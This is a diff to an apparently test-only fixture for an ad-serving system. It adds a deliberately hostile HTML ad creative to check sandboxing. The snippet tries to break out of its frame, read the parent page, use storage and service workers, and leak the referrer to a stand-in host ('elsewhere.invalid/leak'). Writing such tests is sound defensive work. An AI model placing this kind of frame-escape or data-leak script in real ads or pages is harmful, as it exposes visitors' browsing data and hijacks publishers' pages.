@@ -30,6 +30,18 @@ window.report = {
 };
 document.getElementById('area').onclick = () => window.open(clickTag);
 `;
+/** A snippet that tries to get out of its frame, and to click on itself. */
+const hostileSnippet = `<script>
+const attempt = (action) => { try { return String(action()); } catch (error) { return error.name; } };
+window.report = {
+  top: attempt(() => { top.location = 'https://elsewhere.invalid/'; return 'left'; }),
+  parent: attempt(() => parent.document.title),
+  database: attempt(() => indexedDB.open('x') && 'opened'),
+  worker: attempt(() => navigator.serviceWorker.register('/tag.js') && 'asked'),
+};
+fetch('{click_url}', { mode: 'no-cors' }).catch(() => {}).then(() => { window.done = true; });
+new Image().src = 'https://elsewhere.invalid/leak?' + document.referrer;
+</script>`;
 /** A picture that would run scripts, were it ever more than a picture. */
 export const scriptedSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="306" height="250" onload="document.documentElement.setAttribute('data-ran','1')"><rect width="306" height="250" fill="teal"/><script>document.documentElement.setAttribute('data-ran','1');fetch('/v1/ran')</script></svg>`;
 
@@ -47,7 +59,7 @@ export interface CreativesStage {
   counted(type: string, count: number): Promise<void>;
 }
 
-/** Zones 1 to 5 have the creatives of `oneOfEach`, zone 6 an SVG image. */
+/** Zones 1 to 5 have the creatives of `oneOfEach`, zone 6 an SVG image, zone 7 a hostile snippet. */
 export function creativesStage(): CreativesStage {
   let browser: Browser;
   let delivery: TestDelivery;
@@ -81,6 +93,18 @@ export function creativesStage(): CreativesStage {
     );
     creatives.push({
       ...{ id: 6, type: 'image', width: 306, height: 250, alt: 'SVG', asset: `${svgHash}.svg` },
+      clickUrl: `${publisher.origin}/landing`,
+    });
+    creatives.push({
+      ...{
+        id: 7,
+        type: 'html',
+        width: 307,
+        height: 250,
+        alt: 'Hostile',
+        thirdParty: false,
+        html: hostileSnippet,
+      },
       clickUrl: `${publisher.origin}/landing`,
     });
     delivery = await testDelivery(inventoryOf(creatives), {
